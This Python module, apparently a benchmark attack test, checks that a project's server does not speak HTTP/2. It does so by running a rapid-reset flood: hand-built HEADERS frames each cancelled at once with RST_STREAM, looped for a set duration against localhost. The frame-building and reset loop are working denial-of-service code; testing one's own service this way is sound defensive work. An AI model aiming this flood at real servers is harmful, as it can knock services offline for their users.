"""Attacks by HTTP/2, which neither the server speaks nor a proxy as the docs configure it."""

from __future__ import annotations

import time

from benchmarks.attacks.target import Tally, Target

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _RESET, _SETTINGS = 1, 3, 4
_WHOLE = 5  # the headers end, and the stream
_CANCEL = (8).to_bytes(4, "big")
STREAMS = 100


def resets_without_end(target: Target, seconds: float) -> Tally:
    """Ask by HTTP/2 and take it back at once, as fast as it goes: who spoke it would do all of that for nobody."""
    tally = Tally()
    until = time.monotonic() + seconds
    while time.monotonic() < until or not tally.counts:
        try:
            with target.connect(speaking=("h2",), seconds=5) as connection:
                connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0))
                for stream in range(1, 2 * STREAMS, 2):  # a client's are odd
                    connection.sendall(_taken_back(target, stream))
                    tally.count("streams")
                answer = connection.recv(9)
                tally.expect(answer[3:4] != bytes([_SETTINGS]), "HTTP/2 is spoken")
                tally.count("answered otherwise" if answer else "hung up on")
        except OSError:
            tally.count("refused")
    return tally


def _taken_back(target: Target, stream: int) -> bytes:
    """A request and that it is no more wanted (RFC 9113, 6.2 and 6.4)."""
    path, host = b"/api/offers", f"localhost:{target.port}".encode()
    fields = b"\x82\x87" + _literal(4, path) + _literal(1, host)  # GET and https have numbers (RFC 7541, appendix A)
    return _frame(_HEADERS, _WHOLE, stream, fields) + _frame(_RESET, 0, stream, _CANCEL)


def _literal(name: int, value: bytes) -> bytes:
    return bytes([name, len(value)]) + value


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
